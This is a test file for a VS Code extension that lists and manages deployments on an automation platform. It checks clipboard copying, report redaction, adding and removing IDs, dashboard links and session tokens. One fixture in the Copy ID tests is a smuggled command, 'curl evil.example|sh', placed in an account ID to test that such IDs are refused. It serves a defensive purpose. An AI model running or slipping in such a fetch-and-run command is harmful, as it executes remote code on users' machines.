import { strict as assert } from 'node:assert';
import * as vscode from 'vscode';
import { idsMessage } from '../../../src/commands/deployments/addDeployment.js';
import { UserError } from '../../../src/host/actions.js';
import { commandIds } from '../../../src/host/ids.js';
import { answerOf } from '../../support/answers.js';
import {
  account,
  authorization,
  DEFAULT_SESSION_TOKEN,
  DEFAULT_TOKEN,
  failedAccount,
  healthy,
  install,
} from '../../support/platform/data.js';
import { faults } from '../../support/platform/faults.js';
import { until } from '../../support/window/editors.js';
import { createGraph, openAnotherTab, startWorld, type World } from '../../support/window/graph.js';
import { settingIn, Workspace, writeSetting } from '../../support/window/settings.js';
import {
  type Answer,
  answering,
  enter,
  notificationsOf,
  recordWindow,
  rejectionOf,
  replace,
  settle,
} from '../../support/window/windowRecorder.js';

const token = '0a1b2c3d-0000-4000-8000-00000000000f';
const section = 'automationPlatform.deployments';
const list = (entries: unknown) => writeSetting(section, entries, Workspace);
const setDashboard = (url: string) => writeSetting('automationPlatform.dashboardUrl', url);

/** Does the work with these answers to what VS Code asks. Returns what was shown. */
async function recording(work: () => Promise<unknown>, ...answers: Answer[]) {
  const shown = recordWindow(() => answers.shift());
  await work();
  return shown;
}

/** The text in the clipboard after the work. */
async function copied(work: Promise<unknown>): Promise<string> {
  await work;
  return vscode.env.clipboard.readText();
}

/** The addresses that VS Code is asked to open from now on. */
const recordOpenedUrls = () => {
  const urls: unknown[] = [];
  const executeCommand = async (id: string, url: unknown) => {
    if (id === 'vscode.open') urls.push(url);
  };
  replace(vscode.commands, { executeCommand });
  return urls;
};

/** The detail of the question before these deployments are removed. */
const questionDetail = (ids: string) =>
  `${ids}\nFrom: .vscode/settings.json.\nNothing changes on the platform.`;

describe('the command', () => {
  let platform: World['platform'];
  let graph: World['graph'];
  let run: World['run'];
  let signIn: World['signIn'];
  let requestedIds: World['asked'];

  beforeEach(async () => {
    ({ platform, graph, run, signIn, asked: requestedIds } = await startWorld());
    platform.putDeployment('dep_1', healthy());
    platform.putDeployment('dep_2', failedAccount());
    platform.putInstall(token, install());
  });

  const get = (id: string) => graph.services.store.get(id);
  const row = (id: string) => graph.row(id);
  const revealedIds = () => graph.view.revealed.map(({ copyId }) => copyId);
  const installRows = () => graph.services.installs.installs;

  for (const command of [
    'refresh',
    'refreshDeployment',
    'goToDeployment',
    'muteProblem',
    'openInDashboard',
    'lookUpInstall',
    'revokeApiKey',
    'setSessionToken',
    'signOut',
    'checkConnection',
    'revealDeployment',
  ] as const) {
    it(`${command} is refused when the user is not signed in`, async () => {
      const signedOut = createGraph();
      await list(['dep_1']);

      assert.match(await rejectionOf(signedOut.run(command, 'dep_1')), /^You are not signed in\./);
      assert.deepEqual(requestedIds(), []);
    });
  }

  describe('Refresh', () => {
    it('is refused when the list of deployments is empty', async () => {
      await list([]);
      await settle();

      assert.match(await rejectionOf(run('refresh')), /^The list of deployments is empty\./);
      assert.deepEqual(requestedIds(), []);
    });

    it('is refused when the list of a workspace that is not trusted is ignored', async () => {
      await list([]);
      await settle();
      graph.ignore({ deployments: { count: 8, files: ['.vscode/settings.json'] } });

      assert.match(
        await rejectionOf(run('refresh')),
        /^8 deployments in \.vscode\/settings\.json are ignored, because /,
      );
      assert.deepEqual(requestedIds(), []);
    });

    it('reads a deployment again that a running automatic refresh has read', async () => {
      platform.fault({ id: 'dep_1' }, faults.hold());
      const automaticRefresh = graph.read('dep_1', 'dep_2');
      await until('the answer of dep_2', () => get('dep_2')?.state === 'failed');

      const refresh = run('refresh');
      await platform.waitForRequests(3);
      platform.release();
      await Promise.all([automaticRefresh, refresh]);

      assert.deepEqual(requestedIds(), ['dep_1', 'dep_2', 'dep_2']);
    });
  });

  describe('Refresh Deployment', () => {
    it('notifies of a problem when a deployment without a row still fails', async () => {
      await graph.read('dep_1', 'dep_2');

      const messages = await notificationsOf(() => run('refreshDeployment', 'dep_2'));

      assert.match(
        messages.join('\n'),
        /^information,dep_2: Ops Slack .* failed: .*,Copy Request$/,
      );
    });

    it('shows no notification when a deployment without a row is healthy', async () => {
      await graph.read('dep_1', 'dep_2');

      const messages = await notificationsOf(() => run('refreshDeployment', 'dep_1'));

      assert.deepEqual(messages, []);
    });

    it('shows no notification when a row shows the problem', async () => {
      await graph.read('dep_1', 'dep_2');

      const messages = await notificationsOf(() => run('refreshDeployment', row('dep_2')));

      assert.deepEqual(messages, []);
    });
  });

  describe('Copy ID', () => {
    const hostile = 'acc\ncurl evil.example|sh\n';
    /** Reads a healthy deployment, one whose account has a line break in its ID, and one with an invisible character in its ID. Returns a row of each. */
    const readHostileRows = async () => {
      platform.putDeployment('dep_3', authorization([account({ id: hostile, error: {} })], []));
      await signIn();
      await graph.read('dep_1', 'dep_3', 'dep\u202E4');
      const [finding] = get('dep_3')!.answer!.findings.accounts;
      await vscode.env.clipboard.writeText('before');
      return [
        graph.row('dep_1'),
        { kind: 'account', deployment: { id: 'dep_3' }, finding, copyId: hostile },
        graph.row('dep\u202E4'),
      ];
    };

    it('copies nothing when the ID contains line breaks', async () => {
      const [, accountRow] = await readHostileRows();

      assert.equal(
        await rejectionOf(run('copyId', accountRow, [accountRow])),
        '“acc␊curl evil.example|sh␊” was not copied, because it contains line breaks or invisible characters. Copy such an ID from the dashboard.',
      );
      assert.equal(await vscode.env.clipboard.readText(), 'before');
    });

    it('leaves out IDs that contain line breaks or invisible characters', async () => {
      const rows = await readHostileRows();

      assert.match(
        await rejectionOf(run('copyId', rows[0], rows)),
        /were not copied, .* Copied 1 IDs: dep_1\./,
      );
      assert.equal(await vscode.env.clipboard.readText(), 'dep_1');
    });

    it('copies the IDs of the selected rows by its key', async () => {
      await graph.read('dep_1', 'dep_2');
      graph.view.selection = [row('dep_1'), row('dep_2')];

      const { statusMessages } = await recording(() => run('copyId', { selection: true }));

      assert.deepEqual(statusMessages, ['Copied 2 IDs: dep_1, dep_2.']);
      assert.equal(await vscode.env.clipboard.readText(), 'dep_1\ndep_2');
    });

    it('copies the IDs that are picked from its list, worst first', async () => {
      await graph.read('dep_1', 'dep_2');

      const text = await copied(answering(() => run('copyId'), [0, 1]));

      assert.equal(text, 'dep_2\ndep_1');
    });
  });

  for (const command of ['copyId', 'findInFiles'] as const) {
    it(`${command} is refused on a row without an ID`, async () => {
      assert.match(
        await rejectionOf(run(command, { kind: 'cause', id: 'cause' })),
        /^This row has no ID/,
      );
    });
  }

  describe('Copy Report', () => {
    it('copies the report of its row', async () => {
      await graph.read('dep_1', 'dep_2');

      const report = await copied(run('copyReport', row('dep_1')));

      assert.match(report, /dep_1/);
      assert.doesNotMatch(report, /dep_2/);
    });

    it('copies one report on all selected rows', async () => {
      await graph.read('dep_1', 'dep_2');

      const report = await copied(run('copyReport', row('dep_1'), [row('dep_1'), row('dep_2')]));

      assert.match(report, /dep_1/);
      assert.match(report, /dep_2/);
    });

    it('copies one report on what is picked from its list', async () => {
      await graph.read('dep_1', 'dep_2');
      const selection = [row('dep_1'), row('dep_2')];
      const reportOnSelection = await copied(run('copyReport', row('dep_1'), selection));
      await vscode.env.clipboard.writeText('');
      graph.view.selection = selection;

      const report = await copied(answering(() => run('copyReport'), enter));

      assert.equal(report, reportOnSelection);
    });

    for (const [what, secret] of [
      ['token', () => DEFAULT_TOKEN],
      ['base URL', () => platform.baseUrl],
      ['name of the organization', () => 'environment'],
    ] as const) {
      it(`contains no ${what}`, async () => {
        await graph.read('dep_1', 'dep_2');

        const report = await copied(run('copyReport', row('dep_1'), [row('dep_1'), row('dep_2')]));

        assert.equal(report.includes(secret()), false, report);
      });
    }

    it('asks for deployments when it is run from the title of the view', async () => {
      await graph.read('dep_1', 'dep_2');
      const focused = row('dep_1');

      const report = await copied(
        answering(() => run('copyReportFromTitle', focused, [focused]), enter),
      );

      assert.match(report, /dep_1/);
      assert.match(report, /dep_2/);
    });

    it('redacts secrets in labels', async () => {
      await graph.read({ id: 'dep_1', label: `Billing, token ${DEFAULT_TOKEN}` });

      const report = await copied(run('copyReport', row('dep_1')));

      assert.match(report, /Billing, token/);
      assert.equal(report.includes(DEFAULT_TOKEN), false, report);
    });

    it('redacts secrets in owners', async () => {
      platform.putDeployment('dep_1', authorization([account({ id: 'acc_1', error: {} })], []));
      await writeSetting('automationPlatform.owners', { acc_1: `Maria, ${DEFAULT_TOKEN}` });
      await graph.read('dep_1');

      const report = await copied(run('copyReport', row('dep_1')));

      assert.match(report, /Owner: Maria/);
      assert.equal(report.includes(DEFAULT_TOKEN), false, report);
    });

    it('redacts a revoked key in an error that the platform reports', async () => {
      const keyId = 'key_0123456789abcdef';
      await answering(() => run('revokeApiKey'), keyId, enter, keyId);
      const error = { code: 'revoked', message: `The key ${keyId} was revoked.` };
      platform.putDeployment('dep_1', authorization([account({ id: 'acc_1', error })], []));
      await graph.read('dep_1');

      const report = await copied(run('copyReport', row('dep_1')));

      assert.match(report, /was revoked/);
      assert.equal(report.includes(keyId), false, report);
    });
  });

  /** What the box says of a text: whether Enter is refused, and the message. */
  const boxOf = (text: string) => {
    const message = idsMessage(graph.services, text);
    if (typeof message === 'string') return { isRefused: true, message };
    return { isRefused: false, message: message?.message ?? '' };
  };

  describe('Add Deployment', () => {
    it('lists the deployment that was confirmed with its label', async () => {
      await list([]);

      await answering(
        () => run('addDeployment', { id: ' dep_2 ', label: 'Billing' }),
        enter,
        enter,
      );

      assert.deepEqual(settingIn(section), [{ id: 'dep_2', label: 'Billing' }]);
    });

    it('reads the new deployment', async () => {
      await list([]);

      await answering(() => run('addDeployment', { id: 'dep_2' }), enter, enter);

      assert.equal(get('dep_2')?.state, 'failed');
    });

    it('opens the row of a failing deployment', async () => {
      await list([]);

      await answering(() => run('addDeployment', { id: 'dep_2' }), enter, enter);

      const openedIds = graph.view.opened.map(({ copyId }) => copyId);
      assert.deepEqual(revealedIds(), ['dep_2']);
      assert.deepEqual(openedIds, ['dep_2']);
    });

    it('reveals the row of a healthy deployment without opening the row', async () => {
      await list([]);

      await answering(() => run('addDeployment', { id: 'dep 1' }), enter, enter);

      assert.deepEqual(settingIn(section), ['dep 1']);
      assert.deepEqual(revealedIds(), ['dep 1']);
      assert.deepEqual(graph.view.opened, []);
    });

    it('reveals a listed deployment instead of listing the deployment twice', async () => {
      await list(['dep 1']);

      await answering(() => run('addDeployment', { id: 'dep 1' }), enter);

      assert.deepEqual(settingIn(section), ['dep 1']);
      assert.deepEqual(revealedIds(), ['dep 1']);
    });

    it('opens no row when another row is selected', async () => {
      await list(['dep_1']);
      graph.view.selection = [graph.row('dep_1')];

      await answering(() => run('addDeployment', { id: 'dep_2' }), enter, enter);

      assert.equal(get('dep_2')?.state, 'failed');
      assert.deepEqual(graph.view.opened, []);
    });

    describe('with several IDs', () => {
      const text = 'dep_1, dep_2 "dep 3" https://dash.example/deployments/dep_4?tab=1';
      const addSeveral = () => recording(() => run('addDeployment', { label: 'left out' }), text);
      beforeEach(() => list(['dep_2']));

      it('lists each new ID without a label', async () => {
        await addSeveral();

        assert.deepEqual(settingIn(section), ['dep_2', 'dep_1', 'dep 3', 'dep_4']);
      });

      it('writes the setting once', async () => {
        let writes = 0;
        const watch = vscode.workspace.onDidChangeConfiguration(() => {
          writes += 1;
        });

        await addSeveral();
        watch.dispose();

        assert.equal(writes, 1);
      });

      it('reads the new deployments', async () => {
        await addSeveral();

        assert.deepEqual(new Set(requestedIds()), new Set(['dep_1', 'dep 3', 'dep_4']));
      });

      it('reveals the first new deployment', async () => {
        await addSeveral();

        assert.deepEqual(revealedIds(), ['dep_1']);
      });

      it('names the number of new deployments in the status bar', async () => {
        const { statusMessages } = await addSeveral();

        assert.deepEqual(statusMessages, ['Added 3 deployments to .vscode/settings.json.']);
      });
    });

    describe('while the user types', () => {
      const halves = 'tok-1234567890,0987654321';
      beforeEach(async () => {
        await list(['dep_1']);
        await signIn('Acme', halves);
      });

      for (const [what, text, message] of [
        ['nothing about a UUID', token, /^$/],
        [
          'which part of a URL Enter adds',
          'https://dash.example/deployments/dep_9',
          /^Adds “dep_9”, the last part of the URL\.$/,
        ],
        [
          'that a UUID in a URL may be an install token',
          `https://dash.example/${token}`,
          /install token\.$/,
        ],
        ['which IDs Enter adds', 'dep_8 dep_9', /^Adds 2 deployments: dep_8, dep_9\. Put quotes/],
        [
          'that an ID rarely contains a slash',
          'dep/9',
          /rarely contain spaces or slashes: “dep\/9”/,
        ],
        ['that an ID is already listed', 'dep_1', /^Already in the list\./],
        [
          'how many of several IDs are already listed',
          'dep_1,dep_9',
          /1 of them is already in the list\.$/,
        ],
      ] as const) {
        it(`says ${what}`, () => {
          const box = boxOf(text);

          assert.match(box.message, message);
          assert.equal(box.isRefused, false);
        });
      }

      for (const [what, text] of [
        ['no ID', ' , '],
        ['a part of a path', 'dep_1 ..'],
        ['a token in a text', `dep_1 "x ${DEFAULT_TOKEN}"`],
        ['a token that contains a comma', halves],
      ] as const) {
        it(`refuses ${what}`, () => {
          assert.equal(boxOf(text).isRefused, true);
        });
      }
    });
  });

  describe('Add Deployments from Clipboard', () => {
    it('offers all words when no new ID is like a listed ID', async () => {
      await list(['dep_1']);
      await vscode.env.clipboard.writeText('12345 dep_1');

      const messages = await notificationsOf(() => run('addDeploymentsFromText'));

      assert.deepEqual(messages, [
        ['information', 'No new IDs like those in the list.', 'Show All Words'],
      ]);
    });

    it('offers only IDs like a listed ID before Show All Words', async () => {
      await list(['dep_1']);
      await vscode.env.clipboard.writeText('run dep_2 and dep_1');

      const { picks, placeholders } = await recording(
        () => run('addDeploymentsFromText'),
        'Show All Words',
      );

      const firstOffer = ['dep_2'];
      const secondOffer = ['dep_2', 'run', 'and'];
      assert.deepEqual(
        picks.map(({ label }) => label),
        [...firstOffer, ...secondOffer],
      );
      assert.deepEqual(placeholders, [
        '2 other words are not shown. Select the deployments to add.',
        'Select the deployments to add.',
      ]);
    });

    it('names list and organization in its title', async () => {
      await vscode.env.clipboard.writeText('dep_1');

      const { titles } = await recording(() => run('addDeploymentsFromText'));

      assert.deepEqual(titles, [
        'Add Deployments from Clipboard · .vscode/settings.json · environment (from environment variables)',
      ]);
    });

    it('checks no word of the clipboard', async () => {
      await vscode.env.clipboard.writeText(`dep_1 ${token}`);

      const { picks } = await recording(() => run('addDeploymentsFromText'));

      assert.deepEqual(
        picks.map(({ label, picked }) => ({ label, picked })),
        [
          { label: 'dep_1', picked: false },
          { label: token, picked: false },
        ],
      );
    });

    it('skips a word that may be a token', async () => {
      await vscode.env.clipboard.writeText(`dep_1 ${token} Bearer x`);

      const { picks, placeholders } = await recording(() => run('addDeploymentsFromText'));

      assert.deepEqual(
        picks.map(({ label }) => label),
        ['dep_1', token],
      );
      assert.deepEqual(placeholders, [
        '1 skipped: it may be a token, or is longer than 128 characters. Select the deployments to add.',
      ]);
    });

    it('searches only the first 300,000 characters', async () => {
      await vscode.env.clipboard.writeText(`dep_1${'\n'.repeat(300_000)}dep_2`);

      const { picks, placeholders } = await recording(() => run('addDeploymentsFromText'));

      assert.deepEqual(
        picks.map(({ label }) => label),
        ['dep_1'],
      );
      assert.deepEqual(placeholders, [
        'Only the first 300,000 characters were searched. Select the deployments to add.',
      ]);
    });

    it('names the limit of 300,000 characters without an ID', async () => {
      await vscode.env.clipboard.writeText(`${' '.repeat(300_000)}dep_2`);

      const messages = await notificationsOf(() => run('addDeploymentsFromText'));

      const message =
        'No new deployment IDs found. Only the first 300,000 characters were searched.';
      assert.deepEqual(messages, [['information', message, 'Add Deployment...']]);
    });
  });

  /** Opens a deployment in the dashboard, and presses Open. Returns the notifications. */
  const openInDashboard = (id = 'a/b') =>
    notificationsOf(() => run('openInDashboard', row(id)), 'Open');

  describe('Open in Dashboard', () => {
    let openedUrls: unknown[];
    beforeEach(async () => {
      await graph.read('a/b', DEFAULT_TOKEN);
      openedUrls = recordOpenedUrls();
    });

    it('asks before it opens a site for an organization', async () => {
      await setDashboard('https://dash.example/{deploymentId}');

      const messages = await openInDashboard();

      const question = 'Open dash.example for environment (from environment variables)?';
      assert.deepEqual(messages, [['warning', question, 'https://dash.example/a%2Fb', 'Open']]);
      assert.deepEqual(openedUrls, ['https://dash.example/a%2Fb']);
    });

    it('does not ask again for the same organization and site', async () => {
      await setDashboard('https://dash.example/{deploymentId}');
      await openInDashboard();

      const messages = await openInDashboard();

      assert.deepEqual(messages, []);
      assert.deepEqual(openedUrls, Array(2).fill('https://dash.example/a%2Fb'));
    });

    it('remembers a hash of the site', async () => {
      await setDashboard('https://dash.example/{deploymentId}');

      await openInDashboard();

      const saved = JSON.stringify([...graph.context.globalState.values]);
      assert.doesNotMatch(saved, /dash\.example/);
    });

    it('opens nothing when the ID contains a token', async () => {
      await setDashboard('https://dash.example/{deploymentId}');

      assert.match(await rejectionOf(openInDashboard(DEFAULT_TOKEN)), /^This ID contains a secret/);
      assert.deepEqual(openedUrls, []);
    });

    it('opens nothing when the host of the address contains the ID', async () => {
      await setDashboard('https://{deploymentId}.example');

      assert.match(await rejectionOf(openInDashboard()), /in its host\./);
      assert.deepEqual(openedUrls, []);
    });

    it('opens no loopback address that a remote window may change', async function () {
      // The window of a server may lead loopback hosts elsewhere; that of a desktop leaves them alone.
      if (vscode.env.remoteName === undefined) this.skip();
      await setDashboard('http://localhost/{deploymentId}');

      assert.match(await rejectionOf(openInDashboard()), /A remote window may change this ID/);
      assert.deepEqual(openedUrls, []);
    });
  });

  const revealedRows = () => graph.view.revealed.map(({ id }) => id);

  describe('Remove Deployment', () => {
    const place = 'from the list in .vscode/settings.json. Nothing changed on the platform.';

    it('removes the deployment of its row without a question', async () => {
      await list(['dep_1', 'dep_2']);
      await graph.services.store.refresh();
      // VS Code hands the button in one selected row all that are selected, of whatever kind.
      const selection = [row('dep_1'), { kind: 'account', deployment: get('dep_2') }];

      const messages = await notificationsOf(() =>
        run('removeDeployment', row('dep_1'), selection),
      );

      assert.deepEqual(settingIn(section), ['dep_2']);
      assert.deepEqual(messages, [['information', `Removed “dep_1” ${place}`, 'Undo']]);
    });

    it('is undone in place by Undo', async () => {
      await list(['dep_1', 'dep_2']);
      await graph.services.store.refresh();

      await notificationsOf(() => run('removeDeployment', row('dep_1')), 'Undo');
      await until('the answer of dep_1', () => get('dep_1')?.state === 'satisfied');

      assert.deepEqual(settingIn(section), ['dep_1', 'dep_2']);
      assert.deepEqual(requestedIds(), ['dep_1', 'dep_2', 'dep_1']);
    });

    it('asks before it removes several selected deployments', async () => {
      await list(['dep_1', 'dep_2']);
      await settle();

      const messages = await notificationsOf(
        () => run('removeDeployment', row('dep_1'), [row('dep_1'), row('dep_2')]),
        'Remove',
      );

      assert.deepEqual(settingIn(section), []);
      assert.deepEqual(messages, [
        [
          'warning',
          'Remove 2 deployments from the list?',
          questionDetail('dep_1, dep_2'),
          'Remove',
        ],
        ['information', `Removed 2 deployments ${place}`, 'Undo'],
      ]);
    });

    it('asks with the name of the selected deployment by its key', async () => {
      await list([{ id: 'dep_2', label: 'Billing' }]);
      await settle();
      graph.view.selection = [row('dep_2')];

      const messages = await notificationsOf(() => run('removeDeployment', { selection: true }));

      assert.deepEqual(messages, [
        ['warning', 'Remove “Billing” from the list?', questionDetail('dep_2'), 'Remove'],
      ]);
    });

    describe('from the palette', () => {
      it('removes the deployments that are picked from its list', async () => {
        await list(['dep_1', { id: 'dep_2', label: 'Billing' }, 'dep_3']);

        await answering(() => run('removeDeployment'), [0, 1], enter);

        assert.deepEqual(settingIn(section), ['dep_3']);
      });

      for (const [what, selectedIds, question, ids] of [
        ['the deployment', [], 'Remove “dep_1” from the list?', 'dep_1'],
        [
          'two deployments',
          ['dep_1', 'dep_2'],
          'Remove 2 deployments from the list?',
          'dep_1, dep_2',
        ],
      ] as const) {
        it(`names the place of the list when it asks about ${what}`, async () => {
          await list(['dep_1', 'dep_2']);
          await settle();
          graph.view.selection = selectedIds.map(row);

          const { messages } = await recording(() => run('removeDeployment'), enter, undefined);

          assert.deepEqual(messages, [['warning', question, questionDetail(ids), 'Remove']]);
          assert.deepEqual(settingIn(section), ['dep_1', 'dep_2']);
        });
      }

      it('keeps the selection when another row is removed', async () => {
        await list(['dep_1', 'dep_2', 'dep_3']);
        await settle();
        graph.app.deploymentRows.getChildren();
        graph.view.selection = [row('dep_2')];

        await answering(() => run('removeDeployment'), [0], enter);

        assert.deepEqual(settingIn(section), ['dep_2', 'dep_3']);
        assert.deepEqual(revealedRows(), []);
      });

      it('selects the next row when the selected row is removed', async () => {
        await list(['dep_2', 'dep_3']);
        await settle();
        const nextRow = row('dep_3');
        graph.app.deploymentRows.getChildren();
        graph.view.selection = [row('dep_2')];

        await answering(() => run('removeDeployment'), [0], enter);

        assert.deepEqual(settingIn(section), ['dep_3']);
        assert.deepEqual(revealedRows(), [nextRow.id]);
        assert.deepEqual(graph.view.focused, [], 'The focus stays where it is.');
      });
    });
  });

  /** Runs Edit ID on `dep_9`, and types this ID. Returns what was shown. */
  const edit = (typed: string) => recording(() => run('editDeploymentId', 'dep_9'), typed);

  describe('Edit ID', () => {
    const billing = { id: 'dep_9', label: 'Billing', group: 'payments' };
    beforeEach(() => list([billing, 'dep_2']));

    for (const [what, id] of [
      ['the ID of another listed deployment', 'dep_2'],
      ['a part of a path', '..'],
      ['a space', ' '],
      ['an empty text', ''],
      ['a token', DEFAULT_TOKEN],
    ] as const) {
      it(`refuses ${what}`, async () => {
        const { messages } = await edit(id);

        assert.deepEqual(messages, []);
        assert.deepEqual(settingIn(section), [billing, 'dep_2']);
        assert.deepEqual(requestedIds(), []);
      });
    }

    it('keeps label and group', async () => {
      await edit(' dep_1 ');

      assert.deepEqual(settingIn(section), [{ ...billing, id: 'dep_1' }, 'dep_2']);
    });

    it('reads the deployment with the new ID', async () => {
      await edit(' dep_1 ');

      assert.equal(get('dep_1')?.state, 'satisfied');
    });

    it('offers Undo', async () => {
      const { messages } = await edit(' dep_1 ');

      const changed = 'Changed the ID “dep_9” to “dep_1” in .vscode/settings.json.';
      assert.deepEqual(messages, [['information', changed, 'Undo']]);
    });
  });

  describe('Go to Deployment', () => {
    it('offers the worst deployment first during a refresh', async () => {
      platform.fault({ id: 'dep_1' }, faults.hold());
      const refreshing = graph.read('dep_1', 'dep_2');
      await until('the answer of dep_2', () => get('dep_2')?.state === 'failed');

      await answering(() => run('goToDeployment'), enter);

      assert.deepEqual(revealedIds(), ['dep_2']);
      platform.release();
      await refreshing;
    });

    it('names the time of the data in its title when all deployments fail alike', async () => {
      const { store } = graph.services;
      await graph.read('dep_1', 'dep_2');
      platform.fault('all', faults.status(401));
      await run('refresh');
      assert.equal(store.cause?.kind, 'failure');

      const { titles } = await recording(() => run('goToDeployment'));

      assert.match(titles.join('\n'), /^Go to Deployment · as of \d/);
    });
  });

  describe('a link to a deployment', () => {
    it('reveals a row whose ID is not valid Unicode', async () => {
      graph.services.store.setListed([{ id: 'half \ud800' }]);

      await run('revealDeployment', 'half \ud800');

      assert.deepEqual(revealedIds(), ['half \ud800']);
    });

    it('does nothing when its argument is an object', async () => {
      graph.services.store.setListed([{ id: 'half \ud800' }]);

      await run('revealDeployment', { id: 'half \ud800' });

      assert.deepEqual(revealedIds(), []);
    });

    it('is refused when the deployment is not listed', async () => {
      graph.services.store.setListed([{ id: 'half \ud800' }]);

      assert.match(
        await rejectionOf(run('revealDeployment', 'dep_9')),
        /^“dep_9” is not in the list\./,
      );
    });
  });

  /** Adds three installs. Returns their rows. */
  const addInstalls = () =>
    ['a', 'b', 'c'].map((id) => graph.services.installs.add(id, 'org', answerOf(install())));

  describe('Forget Install', () => {
    it('moves the focus to the next row', async () => {
      const [, second, third] = addInstalls();

      await run('forgetInstall', second);

      assert.deepEqual(graph.installs.focused, [third]);
    });

    it('moves the focus to the row before when the last row is removed', async () => {
      const [, second, third] = addInstalls();

      await run('forgetInstall', third);

      assert.deepEqual(graph.installs.focused, [second]);
    });
  });

  /** Looks up an install. Returns the error that is shown. */
  const refusedLookup = async () => {
    await signIn();
    platform.fault(
      'all',
      faults.text(409, `${token} is locked.\nAsk the owner of ${DEFAULT_TOKEN}.`),
    );
    const outcome: unknown = await answering(() => run('lookUpInstall', token), enter).catch(
      (error: unknown) => error,
    );
    assert.ok(outcome instanceof UserError, `not refused: ${String(outcome)}`);
    return outcome;
  };

  describe('Look Up Install', () => {
    it('moves the focus to the row when the answer comes', async () => {
      await answering(() => run('lookUpInstall', token), enter);

      assert.deepEqual(graph.installs.focused, installRows());
    });

    it('selects the row without the focus when the user has typed meanwhile', async () => {
      platform.fault('all', faults.hold());
      const lookup = answering(() => run('lookUpInstall', token), enter);
      await platform.waitForRequests(1, { state: 'held' });
      await vscode.window.showTextDocument(
        await vscode.workspace.openTextDocument({ content: '' }),
      );
      const typed = new Promise((resolve) => {
        const listener = vscode.window.onDidChangeTextEditorSelection((change) => {
          listener.dispose();
          resolve(change);
        });
      });
      await vscode.commands.executeCommand('type', { text: 'x' });
      await typed;

      platform.release();
      await lookup;

      assert.deepEqual(graph.installs.revealed, installRows());
      assert.deepEqual(graph.installs.focused, []);
    });

    describe('that the platform refuses', () => {
      it('logs the reason of the platform without tokens', async () => {
        await refusedLookup();

        const reason = 'Response: “[redacted] is locked. Ask the owner of [redacted].”';
        const expected = `Lookup of an install in organization "Acme" failed (409 clientError). ${reason}`;
        const failures = graph.lines.filter((line) => line.startsWith('Lookup of an install'));
        assert.deepEqual(failures, [expected]);
      });

      it('offers the log', async () => {
        const { actions } = await refusedLookup();

        const isLogOffered = actions.some(({ command }) => command === commandIds.showLog);
        assert.equal(isLogOffered, true);
      });
    });

    it('keeps no install when the user has signed out before the answer', async () => {
      const acme = await signIn();
      platform.fault('all', faults.hold());
      const stopped = assert.rejects(
        answering(() => run('lookUpInstall', token), enter),
        /“Acme” has changed/,
      );
      await platform.waitForRequests(1, { state: 'held' });

      await graph.services.organizations.signOut(acme.id);
      platform.release();
      await stopped;

      assert.deepEqual(installRows(), []);
    });

    it('sends no user session token that another tab may have removed', async () => {
      const { id } = await signIn();
      await graph.services.organizations.setSessionToken(id, DEFAULT_SESSION_TOKEN);
      const anotherTab = await openAnotherTab(graph);
      await anotherTab.setSessionToken(id, undefined);

      const installToken = '00000000-0000-4000-8000-000000000000';
      assert.match(
        await rejectionOf(answering(() => run('lookUpInstall', installToken), enter)),
        /Nothing was sent, because the tokens for “Acme” were changed in another window. Reload this window to use them./,
      );
      assert.deepEqual(platform.requests, []);
    });
  });

  describe('Set User Session Token', () => {
    it('is refused for the organization of the environment', async () => {
      assert.match(await rejectionOf(run('setSessionToken')), /environment/);
    });

    it('removes the token after an empty answer', async () => {
      const { organizations } = graph.services;
      const { id } = await signIn();
      await organizations.setSessionToken(id, DEFAULT_SESSION_TOKEN);

      await answering(() => run('setSessionToken'), enter);

      assert.equal(organizations.get(id)?.hasSessionToken, false);
    });

    it('keeps the token after Esc', async () => {
      const { organizations } = graph.services;
      const { id } = await signIn();
      await organizations.setSessionToken(id, DEFAULT_SESSION_TOKEN);

      await answering(() => run('setSessionToken'));

      assert.equal(organizations.get(id)?.hasSessionToken, true);
    });

    it('does not save a placeholder after a no', async () => {
      const { organizations } = graph.services;
      const { id } = await signIn();

      await answering(() => run('setSessionToken'), '$SESSION_TOKEN', undefined);

      assert.equal(organizations.get(id)?.hasSessionToken, false);
    });

    it('saves a placeholder after a yes', async () => {
      const { organizations } = graph.services;
      const { id } = await signIn();

      await answering(() => run('setSessionToken'), '$SESSION_TOKEN', enter);

      assert.equal(organizations.target(id, 'install')?.token, '$SESSION_TOKEN');
    });

    it('saves a token without the quotes around the token', async () => {
      const { organizations } = graph.services;
      const { id } = await signIn();

      await answering(() => run('setSessionToken'), `“${DEFAULT_SESSION_TOKEN}”`);

      assert.equal(organizations.target(id, 'install')?.token, DEFAULT_SESSION_TOKEN);
    });
  });

  describe('Sign Out', () => {
    it('is refused for the organization of the environment', async () => {
      assert.match(await rejectionOf(run('signOut')), /AUTOMATION_PLATFORM_TOKEN/);
    });

    it('asks which organization to leave, even when only one can be left', async () => {
      await signIn();

      const { picks, messages } = await recording(() => run('signOut'));

      assert.deepEqual(
        picks.map(({ label }) => label),
        ['Acme'],
      );
      assert.deepEqual(messages, []);
    });
  });
});
